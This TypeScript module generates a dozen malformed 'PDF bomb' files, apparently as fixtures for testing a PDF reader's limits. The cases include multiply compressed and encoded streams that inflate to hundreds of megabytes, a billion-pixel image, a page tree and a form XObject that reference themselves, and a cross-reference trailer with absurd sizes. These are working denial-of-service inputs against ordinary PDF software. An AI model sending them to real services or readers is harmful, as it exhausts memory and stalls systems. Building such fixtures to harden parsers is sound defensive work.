import { deflateSync } from 'node:zlib';

const MiB = 1024 * 1024;

/** PDF files of a few kilobytes that ask for gigabytes or minutes of whoever reads them, by what they do. */
export function makePdfBombs(): Readonly<Record<string, Uint8Array>> {
  const spaces = Buffer.alloc(512 * MiB, 0x20);
  const once = deflateSync(spaces, { level: 6 });
  const twice = deflateSync(once, { level: 6 });
  const bearable = deflateSync(Buffer.alloc(60 * MiB, 0x20));
  const just = deflateSync(Buffer.alloc(180 * MiB, 0x20));
  const hex = Buffer.from(`${once.toString('hex')}>`);
  const letters = Buffer.from(`${toBase85(once)}~>`);
  const broken = Buffer.concat([bearable.subarray(0, -4), Buffer.from('gone')]);
  const zeros = deflateSync(deflateSync(Buffer.alloc(400 * MiB), { level: 6 }), { level: 6 });
  const image = (side: number) =>
    `/Subtype /Image /Width ${side} /Height ${side} /BitsPerComponent 8`;
  const rgb = '/ColorSpace /DeviceRGB';
  const flates = (count: number) => `/Filter [${'/FlateDecode '.repeat(count)}]`;
  return {
    'a stream packed twice': aPdf([stream(flates(2), twice)]),
    'a stream packed three times': aPdf([stream(flates(3), deflateSync(twice, { level: 6 }))]),
    'a stream that is packed and then written in letters': aPdf([
      stream('/Filter [/ASCIIHexDecode /FlateDecode]', hex),
    ]),
    'a stream written in letters of another kind': aPdf([
      stream('/Filter [/ASCII85Decode /FlateDecode]', letters),
    ]),
    'many streams that break at their end': aPdf(
      Array.from({ length: 12 }, () => stream(flates(1), broken)),
    ),
    'a stream of just what is bearable': aPdf([stream(flates(1), just)]),
    'many streams, each of them bearable': aPdf(
      Array.from({ length: 12 }, () => stream(flates(1), bearable)),
    ),
    'a picture of a billion points': aPdf(
      [Buffer.from('<< >>'), stream(`${image(30_000)} ${rgb} ${flates(2)}`, zeros)],
      '/Resources << /XObject << /I 5 0 R >> >>',
      '/I Do',
    ),
    'a tree of pages that has itself as a branch': aPdf(
      [],
      '',
      '',
      '/Kids [2 0 R 2 0 R 3 0 R] /Count 999999999',
    ),
    'a form that draws itself': aPdf(
      [
        Buffer.from('<< >>'),
        stream(
          '/Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
          Buffer.from('/F Do /F Do /F Do '.repeat(20)),
        ),
      ],
      '/Resources << /XObject << /F 5 0 R >> >>',
      '/F Do',
    ),
    'a table of numbers without end': aPdf(
      [],
      '',
      '',
      '/Kids [3 0 R] /Count 1',
      '/Prev 9 /Size 2147483647',
    ),
  };
}

/** A file of one page, whose content is the fourth object. */
function aPdf(
  objects: readonly Buffer[],
  page = '',
  content = '',
  tree = '/Kids [3 0 R] /Count 1',
  trailer = '',
): Uint8Array {
  const [fourth, ...more] = objects;
  const contents = content === '' && fourth ? fourth : stream('', Buffer.from(content));
  const all = [
    Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'),
    Buffer.from(`<< /Type /Pages ${tree} >>`),
    Buffer.from(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Contents 4 0 R ${page} >>`),
    contents,
    ...more,
  ];
  let file = Buffer.from('%PDF-1.5\n');
  const places = all.map((object, at) => {
    const place = file.length;
    file = Buffer.concat([
      file,
      Buffer.from(`${at + 1} 0 obj\n`),
      object,
      Buffer.from('\nendobj\n'),
    ]);
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const size = all.length + 1;
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${file.length}\n%%EOF`;
  return new Uint8Array(Buffer.concat([file, Buffer.from(table + end)]));
}

function stream(words: string, bytes: Buffer): Buffer {
  const head = Buffer.from(`<< ${words} /Length ${bytes.length} >>\nstream\n`);
  return Buffer.concat([head, bytes, Buffer.from('\nendstream')]);
}

/** Five letters for four bytes. */
export function toBase85(bytes: Buffer): string {
  const whole = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
  let letters = '';
  for (let at = 0; at < whole.length; at += 4) {
    let value = whole.readUInt32BE(at);
    const group: string[] = [];
    for (let place = 0; place < 5; place += 1) {
      group.unshift(String.fromCharCode(0x21 + (value % 85)));
      value = Math.floor(value / 85);
    }
    letters += group.join('');
  }
  return letters;
}
